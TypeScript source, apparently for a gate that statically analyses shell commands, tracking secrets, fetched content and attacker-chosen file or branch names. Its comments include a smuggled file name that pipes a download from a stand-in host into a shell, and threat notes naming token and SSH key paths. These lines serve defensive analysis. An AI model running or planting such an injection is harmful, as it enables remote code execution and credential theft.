/**
 * The content of a program's output.
 * `environment`: all environment variables. The others describe which part of the input the output shows.
 * `lines`: whole lines. `chosen`: lines that contain a given text. `names`: the text before a `=`. `number`: one number.
 * `numbered`: lines that begin with their number and a colon. `archive`: the files of the current commit, with names below one folder.
 * `processes`: a line for each process of the machine. `every process`: only their numbers.
 */
export type Yield =
	| 'environment'
	| 'lines'
	| 'chosen'
	| 'names'
	| 'number'
	| 'numbered'
	| 'archive'
	| 'processes'
	| 'every process';

/** A word of a command, computed as far as possible without running anything. */
export interface Word {
	/** The computed text. An unknown piece appears as it was written. */
	readonly text: string;
	readonly known: boolean;
	/** The computed text before the first unknown piece: the certain beginning of the word. */
	readonly prefix: string;
	/** Contains pattern characters that the shell expands. */
	readonly pattern: boolean;
	/** Names of secret-looking variables whose values the word contains. */
	readonly secrets: readonly string[];
	/** Contains a shortened or changed secret. Each comparison with such a word reveals a part of the secret. */
	readonly partial?: boolean;
	/** Contains a command substitution (leashd, CommandAnalyzer: subshell). */
	readonly substitutes: boolean;
	/** Names of secret-looking variables that the shell prints when it expands the word: `${x:?$TOKEN}`. */
	readonly told?: readonly string[];
	/** The content came from another machine. */
	readonly fetched: boolean;
	/** The content was decoded from a text that the gate cannot read. */
	readonly decoded?: boolean;
	/** May become no word or several words: an unquoted expansion or a pattern. */
	readonly many?: boolean;
	/**
	 * Another person chose the text that the pattern matches, for example a match in a file or the name of a branch. The text contains no
	 * blanks and is not an option.
	 */
	readonly chosen?: boolean;
	/** Any number of words, which may be options. The word is unknown and not quoted. */
	readonly open?: boolean;
	/** One of two alternatives, so the word may be missing. */
	readonly either?: boolean;
	/** A file name that the shell splits at its blanks: `for f in *; do rm $f; done`. */
	readonly loose?: boolean;
	/** The process that this shell started last: `$!`. */
	readonly child?: boolean;
	/** A number, or empty if no path through the code has set it. Arithmetic can safely read it. */
	readonly counts?: boolean;
	/** Means all files below a folder, including hidden and ignored files, as `find` lists them. */
	readonly whole?: boolean;
	/** File names as a program lists them, including hidden files. The reader splits them at blanks (`split`) or at line ends (`lines`). */
	readonly listed?: 'split' | 'lines';
	/** The folder and pattern of the list that the names come from, even if the names were changed since. */
	readonly from?: Listing;
	/** The list contains no links. */
	readonly linkless?: boolean;
	/** Unusual names that match the pattern are already judged, so the gate does not search for them again. */
	readonly looked?: boolean;
	/** Assigns an array, written as `a=(1 2)`. */
	readonly isList?: boolean;
	/** The file whose text this word is. */
	readonly file?: string;
	/** The program that an unknown word most likely names: `$(which rm)`, `$SHELL`. */
	readonly program?: string;
	/** For a process substitution: the output of its command. `text` is the name of the pipe. */
	readonly stream?: Stream;
}

/** A list of files that a program printed. */
export interface Listing {
	/** The files as a pattern. The path is absolute, unless the working directory is unknown. */
	readonly pattern: string;
	/** The printed form of the pattern; empty if the folder is left out, as in `ls src`. */
	readonly shown: string;
	readonly hidden: boolean;
}

/** The input or output of a command, as far as the gate knows it. */
export interface Stream {
	/** The whole text, if it is constant. */
	readonly text?: string;
	/** The text when the stream was opened, if a command may have read a part of it since. */
	readonly held?: string;
	/** Comes from another machine, directly or through filters. */
	readonly fetched: boolean;
	/** Was decoded or unpacked from data that the gate cannot read. */
	readonly decoded?: boolean;
	/** The part of the previous command's input that is still visible. */
	readonly yields?: Yield;
	/** The file whose text this stream is. */
	readonly file?: string;
	/** The program whose path this stream most likely is. */
	readonly program?: string;
	/** The words of the stream, if their form is known: file names as `find` prints them, or a number. */
	readonly names?: readonly Word[];
	/** As `names`, but with a NUL after each, so that only `xargs -0` can read them. */
	readonly separated?: readonly Word[];
}

/** Creates a constant word. */
export function constant(text: string): Word {
	return { text, known: true, prefix: text, pattern: false, secrets: [], substitutes: false, fetched: false };
}

/** Creates an unknown word. Only its source text is known. */
export function unknown(source: string): Word {
	return { text: source, known: false, prefix: '', pattern: false, secrets: [], substitutes: false, fetched: false };
}

/** Creates an unknown word that came from another machine. It may become several words. */
export function fetchedWord(source: string): Word {
	return { ...openWords(source), fetched: true };
}

/** Creates an unknown word that may become any number of words. */
export function openWords(source: string): Word {
	return { ...unknown(source), many: true, open: true };
}

/** Returns the facts that stay true of uncertain values: the secrets in them, and whether they came from another machine. */
export function remains(source: string, values: readonly Word[] | undefined): readonly Word[] | undefined {
	const marked = values?.filter((word) => word.fetched || word.secrets.length > 0) ?? [];
	if (marked.length === 0) return undefined;
	const secrets = [...new Set(marked.flatMap((word) => word.secrets))];
	const fetched = marked.some((word) => word.fetched);
	const partial = marked.some((word) => word.partial === true);
	return [{ ...fetchedWord(source), fetched, secrets, ...(partial && { partial }) }];
}

/** Returns the facts about a list of file names that also apply to a word, or to a part of a word. */
export function listingOf(
	{
		listed,
		from,
		linkless,
	}: { listed?: Word['listed'] | undefined; from?: Listing | undefined; linkless?: boolean | undefined },
	how = listed,
): Pick<Word, 'listed' | 'from' | 'linkless'> {
	if (listed === undefined || how === undefined) return {};
	return { listed: how, ...(from && { from }), ...(linkless === true && { linkless }) };
}

/** Creates a pattern such as `*.ts`. The gate knows the folder of the files, but not which files match. */
export function patternWord(text: string): Word {
	return { ...constant(text), pattern: true };
}

const tokenText = '[0-9a-z]*';

/** A number, a hash or a date. Such a word is never an option and never leaves a folder, so the gate treats it as a pattern. */
export const tokenWord: Word = patternWord(tokenText);

const numberText = '[0123456789]*';

/** A whole number. */
export const numberWord: Word = patternWord(numberText);

/** The numbers of all processes of the machine. */
export const everyProcessWord: Word = openWords('the numbers of all processes');

/** All values of an associative array, if all values are numbers. */
export const countsWord: Word = { ...numberWord, many: true };

/** The output of a search that prints only the matching text. The author of the file chose which of the possible texts it is. */
export function matchWord(text: string): Word {
	return { ...patternWord(text), chosen: true };
}

/** Letters, digits and `_` of a match. Threat: the match may be `env` in code, `GITHUB_TOKEN` as a variable, or `id_rsa` as a path. */
export const lettersText = '[0-9A-Za-z_]*';

const refText = '[0-9A-Za-z]**';

/**
 * The name of a branch, a tag or a remote branch. Threat: the author of a pull request chooses this name. Git allows `$(`, `;`, `|`, quotes
 * and backticks in it, but no blank, no dash at the beginning and no `..`.
 */
export const refWord: Word = matchWord(refText);

/** Returns whether a word is the name of a branch or a tag as git printed it. */
export function isRefName({ text, pattern, chosen, many }: Word): boolean {
	return pattern && chosen === true && many !== true && text === refText;
}

/** Returns whether a word is only a number, a hash or a date. */
export function isToken(word: Pick<Word, 'text' | 'pattern'>): boolean {
	return word.pattern && (word.text === tokenText || word.text === numberText);
}

/**
 * Returns whether a word that is read as code contains file names. Threat: a file name may contain a command, such as `a;curl
 * evil.test|sh`, which the author of the code never saw.
 */
export function holdsNames({ text, pattern }: Pick<Word, 'text' | 'pattern'>): boolean {
	return pattern && /[*?[]/.test(text.replaceAll(tokenText, '').replaceAll(numberText, ''));
}

/** Returns whether a word is an unknown whole number. */
export function isNumberWord({ text, pattern }: Pick<Word, 'text' | 'pattern'>): boolean {
	return pattern && text === numberText;
}

/** Returns whether a value is one whole number. */
export function isNumber(value: readonly Word[] | undefined): boolean {
	const [word, ...others] = value ?? [];
	return (
		word !== undefined &&
		others.length === 0 &&
		(isNumberWord(word) || (word.known && /^(0|[1-9]\d{0,17})$/.test(word.text)))
	);
}

/** A number, or empty if the variable was never set. */
export const countOrNothing = (name: string): Word => ({ ...unknown(`$${name}`), counts: true });

/** Returns whether arithmetic can safely read a value: it is a number, or a number or empty. */
export function isCount(value: readonly Word[] | undefined): boolean {
	return isNumber(value) || (value?.length === 1 && value[0]?.counts === true);
}

/** Returns one of several matches or branch names, for a loop or `xargs -n1` that takes one at a time. */
export function oneByOne(word: Word): Word {
	return word.chosen === true ? { ...word, many: false } : word;
}

/** Returns a word for any one of several numbers, hashes or dates. */
export function oneOf(words: readonly Word[]): Word {
	return words.every(({ text }) => text === numberText || /^\d+$/.test(text)) ? numberWord : tokenWord;
}

/** Returns the text with each unknown number replaced by 1. */
export function withNumbers({ text, pattern }: Word): string {
	return pattern ? text.replaceAll(numberText, '1') : text;
}

/** Returns the word at an index of an array. `none`: the array is shorter. `any`: an earlier word may become no word or several. */
export function elementAt(list: readonly Word[], at: number): Word | 'none' | 'any' {
	if (list.slice(0, at + 1).some((word) => word.many === true)) return 'any';
	return list[at] ?? 'none';
}

/** Quotes a word if necessary, so that a text of several words is parsed into the same words again. */
export function spell(word: Word): string {
	if (!word.known || word.pattern) return word.text;
	if (/^[\w@%+=:,./~^-]+$/.test(word.text)) return word.text;
	return `'${word.text.replaceAll("'", "'\\''")}'`;
}
